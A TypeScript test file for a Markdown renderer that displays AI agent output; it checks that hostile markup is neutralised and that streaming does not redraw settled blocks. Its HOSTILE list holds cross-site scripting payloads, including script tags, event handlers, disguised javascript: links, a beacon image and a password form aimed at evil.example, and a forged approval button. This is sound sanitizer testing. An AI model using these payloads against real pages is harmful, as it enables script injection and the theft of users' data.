// What an agent writes cannot run, fetch, or pass for a card; and what is settled is not drawn again.
import { cleanup, render } from "@testing-library/preact";
import { afterEach, expect, it } from "vitest";
import { cut, NOTHING } from "./blocks.ts";
import { Markdown } from "./Markdown.tsx";

afterEach(cleanup);
const drawn = (text: string) => render(<Markdown text={text} />).container as HTMLElement;

const HOSTILE = [
  ["a script", "<script>window.hit = 1</script>"],
  ["a script inside a word", "so <script>window.hit = 1</script> on"],
  ["a handler", "<img src=x onerror=window.hit=1>"],
  ["a frame", '<iframe src="https://evil.example"></iframe>'],
  ["a style", "<style>body{display:none}</style>"],
  ["a remote picture", "![chart](https://evil.example/p.png?secret)"],
  ["a picture by reference", "![chart][c]\n\n[c]: https://evil.example/p.png"],
  ["a picture that is a link", "[![chart](https://evil.example/p.png)](https://evil.example)"],
  ["a javascript: link", "[click](javascript:window.hit=1)"],
  ["a javascript: link in disguise", "[click](java\tscript:window.hit=1) [x](&#106;avascript:window.hit=1)"],
  ["a data: link", "[click](data:text/html,<script>window.hit=1</script>)"],
  ["a vbscript autolink", "<vbscript:msgbox>"],
  ["a handler through a title", '[x](https://a.example "q\\" onmouseover=\\"window.hit=1")'],
  ["svg", "<svg onload=window.hit=1><use href='https://evil.example/x.svg#a'/></svg>"],
  ["math", '<math><mtext><table><mglyph><style><img src=x onerror="window.hit=1">'],
  ["a card", '<article class="sy-card" data-state="editing"><button class="sy-button" data-look="go">Approve</button></article>'],
  ["a form", '<form action="https://evil.example"><input name="password"></form>'],
] as const;

it.each(HOSTILE)("%s comes to nothing", (_, text) => {
  const page = drawn(text);
  expect(page.querySelector("script, style, iframe, img, svg, math, form, input, button, article, link, object")).toBeNull();
  for (const element of page.querySelectorAll(".sy-md *")) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^style$|^id$|^src|^data-(?!streaming)/);
      if (name === "href") expect(value).toMatch(/^(https?:|mailto:)/);
      if (name === "class") expect(value).toBe("sy-scroll");
    }
  }
  expect((window as { hit?: number }).hit).toBeUndefined();
});

it("shows raw HTML as the text it is", () => {
  expect(drawn("<b>bold</b> and <article class='sy-card'>").textContent).toContain("<b>bold</b>");
});

it("says what a picture was instead of fetching it", () => {
  expect(drawn("![a *chart*](https://example.org/c.png)").textContent).toContain("picture: a chart");
});

it("opens links elsewhere, and tells them nothing", () => {
  const link = drawn("[docs](https://example.org/a?b=1&c=2)").querySelector("a");
  expect(link?.getAttribute("href")).toBe("https://example.org/a?b=1&c=2");
  expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
  expect(link?.getAttribute("target")).toBe("_blank");
});

it("does not link into the page's own origin", () => {
  const page = drawn("[approve](/api/interactions/1/response) [here](#top)");
  expect(page.querySelector("a")).toBeNull();
  expect(page.textContent).toContain("approve");
});

it("puts headings below those of cards", () => {
  const page = drawn("# a\n\n## b\n\n### c\n\n###### d");
  expect([...page.querySelectorAll("h1, h2, h3, h4, h5, h6")].map((h) => h.tagName)).toEqual(["H4", "H4", "H5", "H6"]);
});

it("does not draw settled blocks again while text streams", () => {
  const { container, rerender } = render(<Markdown streaming text={"First *one*.\n\nSecond"} />);
  const first = container.querySelector("em");
  rerender(<Markdown streaming text={"First *one*.\n\nSecond one.\n\n- a\n- b"} />);
  rerender(<Markdown streaming text={"First *one*.\n\nSecond one.\n\n- a\n- b\n- c"} />);
  expect(container.querySelector("em")).toBe(first);
  expect(container.querySelectorAll("li").length).toBe(3);
});

it("reads only the last block again, however long the text is", () => {
  const long = Array.from({ length: 200 }, (_, i) => `Paragraph ${i}.`).join("\n\n");
  const before = cut(long);
  const after = cut(`${long} And more.`, before);
  expect(after.blocks.slice(0, 199)).toEqual(before.blocks.slice(0, 199));
  expect(after.blocks.slice(0, 199).every((block, i) => block === before.blocks[i])).toBe(true);
});

const TEXTS = [
  "# Title\n\nSome *text* with `code`.\n\n- a\n- b\n\n  more of b\n- c\n\n1. x\n2. y\n\n> quote\nlazy\n\nend",
  "A table:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n\nafter\n\n```js\nconst a = 1;\n\n\nconst b = 2;\n```\n\ntail **bold** end",
  "Setext\n===\n\npara\n---\n\n***\n\n<div>\n\nhtml\n\n</div>\n\n* * *\n\t code\n\nüñí 漢字 😀 done\r\nnext",
];

it.each(TEXTS)("streamed in pieces gives what the whole gives %#", (text) => {
  let now = NOTHING;
  for (let end = 1; end <= text.length; end += 1) now = cut(text.slice(0, end), now);
  expect(now.blocks).toEqual(cut(text).blocks);
});
